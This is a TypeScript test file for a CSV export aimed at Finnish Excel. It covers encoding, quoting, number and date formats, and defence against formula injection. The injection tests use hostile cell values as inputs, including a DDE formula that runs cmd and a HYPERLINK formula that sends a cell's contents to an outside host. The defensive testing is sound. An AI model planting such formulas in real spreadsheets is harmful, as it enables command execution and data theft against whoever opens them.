import { describe, expect, test } from 'vitest';
import { writeCsv } from '#app/spreadsheets/write-csv.ts';
import { aTable, csvOf, written } from '#tests/support/spreadsheets.ts';

describe('a CSV file opens in Finnish Excel by a double click', () => {
  test('it begins with the byte order mark of UTF-8', async () => {
    const bytes = await written(writeCsv, aTable([['Äänekoski']]));
    expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
  });

  test('semicolons stand between cells and CRLF after rows', async () => {
    expect(await csvOf([['Maija', 'Hämeenlinna']], ['Nimi', 'Kunta'])).toBe(
      '\ufeffNimi;Kunta\r\nMaija;Hämeenlinna\r\n',
    );
  });

  test.each([
    ['a semicolon', 'a;b', '"a;b"'],
    ['a quote', 'the "big" day', '"the ""big"" day"'],
    ['a line break', 'a\nb', '"a\nb"'],
    ["a form's line break", 'a\r\nb', '"a\nb"'],
    ['a blank at the edge', ' a', '" a"'],
    ['nothing special', "Kanta-Häme, O'Hara", '"Kanta-Häme, O\'Hara"'],
  ])('a cell with %s comes whole', async (_what, cell, held) => {
    expect(await rowOf(cell)).toBe(held);
  });

  test.each([
    ['a number has a decimal comma', 1.5, '1,5'],
    ['a negative number stays a number', -3, '-3'],
    ['an instant stands in summer time', new Date('2026-06-15T05:30:59Z'), '2026-06-15 08:30'],
    ['an instant stands in winter time', new Date('2026-12-15T06:30:00Z'), '2026-12-15 08:30'],
    ['a truth', true, 'TRUE'],
    ['nothing', null, ''],
  ])('%s', async (_what, cell, held) => {
    expect(await rowOf(cell)).toBe(held);
  });
});

const risky = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

describe('no cell runs as a formula', () => {
  test.each([
    ...risky.map((character) => `${character}1+1`),
    ...risky.map((character) => ` ${character}1+1`),
    ...risky.map((character) => `\u00a0${character}1+1`),
    '\t=1+1',
    '\tteksti',
    '+358 40 123 4567',
    '-',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.net/?x="&A1;"Avaa")',
    '@SUM(1+1)*cmd',
    "'=1+1",
  ])('%j gets an apostrophe', async (cell) => {
    expect(unquoted(await rowOf(cell))).toBe(`'${cell}`);
  });

  test('a carriage return, which becomes a line feed, gets an apostrophe', async () => {
    expect(unquoted(await rowOf('\r=1+1'))).toBe("'\n=1+1");
  });

  test('what hides behind a character that is dropped gets an apostrophe', async () => {
    expect(await rowOf('\0=1+1')).toBe("'=1+1");
  });

  test('a title gets an apostrophe too', async () => {
    expect(await csvOf([], ['=1+1'])).toBe("\ufeff'=1+1\r\n");
  });

  test.each(['Maija', 'a=b', '1-2', 'maija@example.fi', "'s-Hertogenbosch", ''])(
    '%j is left as it is',
    async (cell) => {
      expect(await rowOf(cell)).toBe(cell);
    },
  );
});

async function rowOf(cell: string | number | boolean | Date | null): Promise<string> {
  const csv = await csvOf([[cell]], ['Otsikko']);
  return csv.slice('\ufeffOtsikko\r\n'.length, -2);
}

function unquoted(held: string): string {
  return held.replace(/^"(.*)"$/s, '$1').replaceAll('""', '"');
}
